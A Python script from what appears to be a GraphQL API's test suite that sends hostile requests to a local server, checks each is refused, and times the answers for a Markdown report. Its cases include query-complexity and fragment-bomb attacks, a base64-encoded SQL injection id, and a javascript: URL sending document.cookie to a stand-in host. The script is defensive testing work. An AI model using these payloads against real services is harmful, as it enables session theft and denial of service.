"""Hostile requests to the real schema, and how long each takes: `python -m tests.abuse [--write docs/abuse.md]`.

The numbers are those of the list that tests/web/test_abuse.py goes through with the sample schema. The
command sends those as well.
"""

import argparse
import asyncio
import json
import os
import statistics
import sys
import tempfile
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from time import perf_counter
from typing import Any

import httpx

from graphql_api.adapters.sealing import new_key
from graphql_api.storage.migrations import migrate
from tests import operations
from tests.serving import Process, running

TOO_COMPLEX = "OPERATION_TOO_COMPLEX"
INVALID = "GRAPHQL_VALIDATION_FAILED"
LOG_IN = 'createApiToken(input:{email:"a@example.com",password:"b"}){__typename}'
MEMBERS = "members(first:100){nodes{user{id}}}"
HOSTILE_URL = "javascript:fetch('//example.com/'+document.cookie)"


def _connect(**changed: object) -> dict[str, Any]:
    account = {
        "instagramUserId": "17841400000000666",
        "username": "mallory",
        "profilePictureUrl": "",
        "accessToken": "made-up",
    }
    login = {"facebookUserId": "10220000000000666", "accessToken": "made-up"}
    return {"input": {"facebookAccount": login, "instagramAccounts": [{**account, **changed}]}}


# A document, its variables, and the answer: a code, or the `__typename` of the first refusal, or `data`.
CASES: Mapping[str, tuple[str, Mapping[str, object], str]] = {
    "A1 aliased log-ins": ("mutation{" + "".join(f"a{n}:{LOG_IN}" for n in range(20)) + "}", {}, TOO_COMPLEX),
    "A3 members of all Workspaces": (
        "{viewer{workspaces(first:100){nodes{" + MEMBERS + "}}}}",
        {},
        TOO_COMPLEX,
    ),
    "A3 members of Workspaces in pages by variable": (
        "query($n:Int){viewer{workspaces(first:$n){nodes{members(first:$n){nodes{user{id}}}}}}}",
        {"n": 100},
        TOO_COMPLEX,
    ),
    "A3 members of a hundred nodes": (
        "query($ids:[ID!]!){nodes(ids:$ids){...on Workspace{" + MEMBERS + "}}}",
        {"ids": ["x"] * 100},
        TOO_COMPLEX,
    ),
    "A4 fragment bomb": (
        "{viewer{...F0}}"
        + "".join(f"fragment F{n} on Viewer{{...F{n + 1} ...F{n + 1}}}" for n in range(40))
        + "fragment F40 on Viewer{__typename}",
        {},
        "data",
    ),
    "A11 long number": ("{viewer{workspaces(first:" + "9" * 40_000 + "){nodes{id}}}}", {}, INVALID),
    "A16 NUL in a user name": (operations.CONNECT, _connect(username="a\0b"), "InvalidInput"),
    "A18 an id beyond 64 bits": (operations.CONNECT, _connect(instagramUserId="9" * 21), "InvalidInput"),
    "A31 ids of anything": (
        "query($ids:[ID!]!){nodes(ids:$ids){id}}",
        {"ids": ["x" * 5000, "V29ya3NwYWNlOicgT1IgMT0xOyAtLQ==", "\0", *["U2hhcmU6MQ=="] * 97]},
        "data",
    ),
    "A31 more ids than a page": (
        "query($ids:[ID!]!){nodes(ids:$ids){id}}",
        {"ids": ["x"] * 101},
        "BAD_USER_INPUT",
    ),
    "A32 a holder of one's choice": (operations.CONNECT, _connect(holder="Personal"), "BAD_USER_INPUT"),
    "A32 a role in the document": (
        'mutation{createWorkspace(input:{name:"a",role:ADMIN}){__typename}}',
        {},
        INVALID,
    ),
    "A34 a script as a picture": (
        operations.CONNECT,
        _connect(profilePictureUrl=HOSTILE_URL),
        "InvalidInput",
    ),
    "A38 a page of two billion": (
        "{viewer{socialAccounts(first:2147483647){nodes{id}}}}",
        {},
        "BAD_USER_INPUT",
    ),
    "A38 a negative page": ("{viewer{socialAccounts(first:-1){nodes{id}}}}", {}, "BAD_USER_INPUT"),
    "A38 a cursor of another list": (
        '{viewer{socialAccounts(after:"WzEsMl0="){nodes{id}}}}',
        {},
        "BAD_USER_INPUT",
    ),
    "a hundred and one accounts": (
        operations.CONNECT,
        {
            "input": {
                **_connect()["input"],
                "instagramAccounts": _connect()["input"]["instagramAccounts"] * 101,
            }
        },
        "InvalidInput",
    ),
}
BAD_TOKENS = {
    "a bearer token of 60,000 characters": "sca_" + "a" * 60_000,
    "a bearer token with a wrong check sum": "sca_" + "a" * 49,
    "a bearer token of other bytes": "\xff\xfe",
}


def answer_of(answer: Mapping[str, Any]) -> str:
    """The code of a refusal, the type of the first typed one, or `data`."""
    if "errors" in answer:
        return str(answer["errors"][0]["extensions"]["code"])
    for result in answer["data"].values():
        if isinstance(result, dict) and result.get("errors"):
            return str(result["errors"][0]["__typename"])
    return "data"


async def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.abuse", description=__doc__)
    parser.add_argument("--rounds", type=int, default=20)
    parser.add_argument("--write", type=Path, help="the Markdown file to write the figures to")
    given = parser.parse_args()
    with tempfile.TemporaryDirectory() as name:
        database = f"sqlite:///{name}/scratch.sqlite3"
        await migrate(database)
        settings = {"DATABASE_URL": database, "SEALING_KEYS": new_key("k1"), "LOG_LEVEL": "WARNING"}
        async with running(Path(name), settings) as server:
            rows = await _time(server, await _real(server.base_url), given.rounds)
        async with running(Path(name), {}, sys.executable, "-m", "tests.web") as server:
            rows += await _time(server, _of_the_sample(), given.rounds)
    text = _page(sorted(rows, key=lambda row: _number(row[0])), given.rounds)
    if given.write:
        given.write.write_text(text, encoding="utf-8")
    else:
        sys.stdout.write(text)


Requests = dict[str, tuple[bytes, dict[bytes, bytes]]]
Row = tuple[str, int, float, float]


async def _real(base_url: str) -> Requests:
    """The requests to the real schema, as somebody registered."""
    who = {"email": "mallory@example.com", "password": "a-password-of-mallory", "name": "Mallory"}
    body = {"query": operations.REGISTER, "variables": {"input": who}}
    async with httpx.AsyncClient(base_url=base_url, trust_env=False) as http:
        token = (await http.post("/graphql", json=body)).json()["data"]["registerUser"]["bearerToken"]
    requests: Requests = {}
    for case, (query, variables, _) in CASES.items():
        document = json.dumps({"query": query, "variables": variables}).encode()
        requests[f"{case} (real)"] = document, {b"authorization": f"Bearer {token}".encode()}
    for case, bad in BAD_TOKENS.items():
        requests[f"{case} (real)"] = (
            b'{"query":"{__typename}"}',
            {b"authorization": f"Bearer {bad}".encode("latin-1")},
        )
    return requests


def _of_the_sample() -> Requests:
    from tests.web.test_abuse import CASES as OF_THE_DOOR  # noqa: PLC0415 - only for this command

    return {case: (body, {}) for case, (body, _) in OF_THE_DOOR.items()}


async def _time(server: Process, requests: Requests, rounds: int) -> list[Row]:
    rows = []
    async with httpx.AsyncClient(base_url=server.base_url, timeout=30, trust_env=False) as http:
        for case, (body, headers) in requests.items():
            took: list[float] = []
            before = 0.0
            for round_ in range(rounds + 1):
                if round_ == 1:
                    before = _computed(server)
                started = perf_counter()
                response = await http.post(
                    "/graphql", content=body, headers={b"content-type": b"application/json", **headers}
                )
                took.append((perf_counter() - started) * 1000)
            assert response.status_code < 500, response.text
            computed = (_computed(server) - before) / rounds
            rows.append((case, len(body), statistics.median(took[1:]), computed))
    return rows


def _computed(server: Process) -> float:
    """The milliseconds that the server has computed so far, whatever else the machine does."""
    fields = Path(f"/proc/{server.process.pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) * 1000 / os.sysconf("SC_CLK_TCK")


def _number(case: str) -> tuple[int, str]:
    first, _, _ = case.partition(" ")
    return (int(first[1:]) if first[1:].isdigit() else 99, case)


def _page(rows: list[Row], rounds: int) -> str:
    lines = [
        f"| {case} | {size:,} | {median:.1f} | {computed:.1f} |" for case, size, median, computed in rows
    ]
    return TEXT.format(
        day=datetime.now(UTC).date(),
        rounds=rounds,
        cases=len(rows),
        slowest=f"{max(row[3] for row in rows):.0f}",
        lines="\n".join(lines),
    )


TEXT = """\
# Abuse

What a hostile client sends, how it is answered, and how long that takes. Each case is a test: the answer is the right
one, memory stays flat, and the next request is answered as ever. `python -m tests.abuse --write docs/abuse.md` sends
them and writes this page.

On {day}, {rounds} rounds of {cases} cases, in milliseconds: the median from sending to the whole answer, which includes
what else two shared cores were doing, and what the server computed for each. The most that it computed for one is
{slowest}. Those marked "real" go to the real schema, the others to the tests' sample server, by the same front door.

| case | bytes | answered after | computed |
|---|---|---|---|
{lines}
"""


if __name__ == "__main__":
    asyncio.run(main())
